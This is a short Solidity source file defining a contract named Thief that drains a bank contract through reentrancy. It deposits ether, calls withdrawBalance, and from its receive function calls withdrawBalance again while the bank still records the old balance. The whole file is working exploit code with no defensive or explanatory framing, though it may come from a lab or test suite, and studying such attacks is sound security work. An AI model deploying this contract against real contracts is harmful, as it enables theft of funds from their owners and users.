// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IBank} from "./IBank.sol";

/// @notice Withdraws again while it is being paid: `withdrawBalance` still sees the old balance.
contract Thief {
    IBank private immutable _bank;
    uint256 private _stake;

    constructor(IBank bank) {
        _bank = bank;
    }

    /// @notice Deposits the ether sent along, then empties the bank by multiples of it.
    function rob() external payable {
        _stake = msg.value;
        _bank.deposit{value: msg.value}();
        _bank.withdrawBalance();
    }

    receive() external payable {
        if (msg.value < _stake || address(_bank).balance < _stake) return;
        try _bank.withdrawBalance() {} catch {}
    }
}
